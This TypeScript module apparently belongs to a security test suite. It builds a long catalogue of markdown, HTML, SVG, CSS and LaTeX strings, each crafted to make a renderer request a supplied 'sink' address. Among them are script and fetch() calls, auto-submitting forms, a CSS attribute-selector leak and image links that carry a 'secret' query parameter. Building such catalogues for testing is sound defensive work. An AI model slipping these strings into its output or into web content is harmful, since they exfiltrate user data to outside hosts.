import { asking } from './mermaid';

/** Texts that make a careless program ask `sink`, an address like `http://host:port`, for something. */

const images = (sink: string): readonly string[] => [
  `![x](${sink}/1.png)`,
  `![x](<${sink}/2.png>)`,
  `![x](${sink}/3.png "title")`,
  `![x][r]\n\n[r]: ${sink}/4.png`,
  `![${sink}/5.png][]\n\n[${sink}/5.png]: ${sink}/5.png`,
  `[![x](${sink}/6.png)](${sink}/6)`,
  `![](${sink}/7.png?d=secret#x)`,
  `![x](${sink.replace('http:', '')}/8.png)`,
  `![x](${sink.replace('http', 'HTTP')}/9.png)`,
  `![x](\\${sink}/10.png)`,
  `![x](${sink}/11.svg)`,
  `- ![x](${sink}/12.png)`,
  `> ![x](${sink}/13.png)`,
  `| a |\n| - |\n| ![x](${sink}/14.png) |`,
  `# ![x](${sink}/15.png)`,
  `**![x](${sink}/16.png)**`,
  `![x](${sink}/17.png){width=1}`,
  `![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${sink}/18.png'/></svg>)`,
];

const links = (sink: string): readonly string[] => [
  `[x](${sink}/19)`,
  `<${sink}/20>`,
  `${sink}/21`,
  `[x]: ${sink}/22\n\n[x]`,
  `[^1]\n\n[^1]: ${sink}/23`,
  `[x](${sink}/24 "t")`,
  `[x](view-source:${sink}/25)`,
  `[x](blob:${sink}/26)`,
  `[x](//${sink.slice('http://'.length)}/27)`,
  `\u001b]8;;${sink}/28\u0007x\u001b]8;;\u0007`,
];

const elements = (sink: string): readonly string[] => [
  `<img src="${sink}/30.png">`,
  `<img src=${sink}/31.png loading=eager>`,
  `<img srcset="${sink}/32.png 1x, ${sink}/32b.png 2x">`,
  `<picture><source srcset="${sink}/33.png"><img></picture>`,
  `<image src="${sink}/34.png">`,
  `<input type=image src="${sink}/35.png">`,
  `<video src="${sink}/36.mp4" autoplay></video>`,
  `<video poster="${sink}/37.png"></video>`,
  `<video><source src="${sink}/38.mp4"><track src="${sink}/38.vtt" default></video>`,
  `<audio src="${sink}/39.mp3" autoplay preload=auto></audio>`,
  `<iframe src="${sink}/40"></iframe>`,
  `<iframe srcdoc="<img src='${sink}/41.png'>"></iframe>`,
  `<frameset><frame src="${sink}/42"></frameset>`,
  `<object data="${sink}/43.svg"></object>`,
  `<embed src="${sink}/44.svg">`,
  `<applet code=x archive="${sink}/45.jar"></applet>`,
  `<script src="${sink}/46.js"></script>`,
  `<script type=module>import '${sink}/47.js'</script>`,
  `<script>fetch('${sink}/48')</script>`,
  `<link rel=stylesheet href="${sink}/49.css">`,
  `<link rel=preload as=image href="${sink}/50.png">`,
  `<link rel=prefetch href="${sink}/51">`,
  `<link rel=prerender href="${sink}/52">`,
  `<link rel=preconnect href="${sink}">`,
  `<link rel=dns-prefetch href="${sink}">`,
  `<link rel=icon href="${sink}/55.ico">`,
  `<link rel=manifest href="${sink}/56.json">`,
  `<link rel=modulepreload href="${sink}/57.js">`,
  `<base href="${sink}/"><img src=58.png>`,
  `<meta http-equiv=refresh content="0;url=${sink}/59">`,
  `<a href="${sink}/60" ping="${sink}/60p">x</a>`,
  `<a href="${sink}/61" autofocus onfocus="this.click()">x</a>`,
  `<form action="${sink}/62"><input autofocus onfocus="this.form.submit()"></form>`,
  `<body background="${sink}/63.png">`,
  `<table background="${sink}/64.png"><tr><td background="${sink}/64b.png">x</table>`,
  `<bgsound src="${sink}/65.wav">`,
  `<portal src="${sink}/66"></portal>`,
  `<fencedframe src="${sink}/67"></fencedframe>`,
  `<html manifest="${sink}/68.appcache">`,
  `<template><img src="${sink}/69.png"></template>`,
  `<noscript><img src="${sink}/70.png"></noscript>`,
  `<details open><img src="${sink}/71.png"></details>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${sink}/72"]}]}</script>`,
];

const drawings = (sink: string): readonly string[] => [
  `<svg><image href="${sink}/80.png"/></svg>`,
  `<svg><image xlink:href="${sink}/81.png"/></svg>`,
  `<svg><use href="${sink}/82.svg#x"/></svg>`,
  `<svg><script href="${sink}/83.js"/></svg>`,
  `<svg><feImage href="${sink}/84.png"/></svg>`,
  `<svg><style>@import '${sink}/85.css';</style></svg>`,
  `<svg><rect fill="url(${sink}/86.svg#x)"/></svg>`,
  `<svg><foreignObject><img src="${sink}/87.png"/></foreignObject></svg>`,
  `<svg><a href="${sink}/88"><animate attributeName=href values="${sink}/88b"/></a></svg>`,
  `<svg><set attributeName=href to="${sink}/89.png"/></svg>`,
  `<math href="${sink}/90"><mtext>x</mtext></math>`,
  `<math><mglyph src="${sink}/91.png"/></math>`,
];

const styles = (sink: string): readonly string[] => [
  `<p style="background:url(${sink}/100.png)">x</p>`,
  `<p style="background-image:image-set('${sink}/101.png' 1x)">x</p>`,
  `<p style="list-style-image:url(${sink}/102.png)">x</p>`,
  `<p style="cursor:url(${sink}/103.cur),auto">x</p>`,
  `<p style="border-image:url(${sink}/104.png) 1">x</p>`,
  `<p style="content:url(${sink}/105.png)">x</p>`,
  `<p style="mask:url(${sink}/106.svg#m)">x</p>`,
  `<p style="filter:url(${sink}/107.svg#f)">x</p>`,
  `<p style="clip-path:url(${sink}/108.svg#c)">x</p>`,
  `<p style="shape-outside:url(${sink}/109.png)">x</p>`,
  `<p style="--a:url(${sink}/110.png);background:var(--a)">x</p>`,
  `<p style="background:u\\72l(${sink}/111.png)">x</p>`,
  `<style>@import url(${sink}/112.css);</style>`,
  `<style>@font-face{font-family:x;src:url(${sink}/113.woff2)}*{font-family:x}</style>`,
  `<style>[value^=a]{background:url(${sink}/114.png)}</style>`,
  `<style>body::after{content:url(${sink}/115.png)}</style>`,
  `<style>@namespace url(${sink}/116);</style>`,
  `<font face="x" style="src:url(${sink}/117)">x</font>`,
];

const formulas = (sink: string): readonly string[] =>
  [
    `\\includegraphics{${sink}/120.png}`,
    `\\includegraphics[height=1em]{${sink}/121.png}`,
    `\\href{${sink}/122}{x}`,
    `\\url{${sink}/123}`,
    `\\htmlStyle{background:url(${sink}/124.png)}{x}`,
    `\\htmlData{x=${sink}/125}{x}`,
    `\\color{url(${sink}/126.png)}x`,
    `\\text{<img src='${sink}/127.png'>}`,
  ].flatMap((tex) => [`$${tex}$`, `$$\n${tex}\n$$`]);

const fenced = (sink: string): readonly string[] => [
  ...['html', 'svg', 'css', 'math', 'latex', `"><img src=${sink}/131.png>`].map(
    (info) => `\`\`\`${info}\n<img src="${sink}/130.png">\n\`\`\``,
  ),
  `<fyllo-signal type="show.time">\n{"label":"![x](${sink}/132.png)"}\n</fyllo-signal>`,
  `<fyllo-signal type="${sink}/133">\n{}\n</fyllo-signal>`,
];

/** Diagrams as they stand in a text. */
const diagrams = (sink: string): readonly string[] =>
  asking(sink).map((source) => `\`\`\`mermaid\n${source}\n\`\`\``);

/** Everything but diagrams: texts that are read at once. */
export const textCarriers = (sink: string): readonly string[] => [
  ...images(sink),
  ...links(sink),
  ...elements(sink),
  ...drawings(sink),
  ...styles(sink),
  ...formulas(sink),
  ...fenced(sink),
];

/** Every way to carry an address that is tried. */
export const carriers = (sink: string): readonly string[] => [
  ...textCarriers(sink),
  ...diagrams(sink),
];
